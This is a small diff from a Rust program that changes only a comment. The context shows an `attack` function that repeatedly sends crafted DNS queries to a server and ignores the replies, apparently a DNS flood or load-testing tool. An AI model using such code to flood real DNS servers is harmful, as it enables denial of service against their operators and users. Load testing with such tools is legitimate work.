@@ -69,7 +69,7 @@ fn attack(server: SocketAddrV4, what: &str, over: &AtomicBool) {
         let mut query = vec![0, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, label.len() as u8];
         query.extend(label.bytes());
         query.extend(b"\x07example\x00\x00\x01\x00\x01");
-        // Replies find nobody; that is told now and then.
+        // Nothing listens for the replies, which ICMP reports now and then.
         let _ = socket.send(&query);
     }
 }
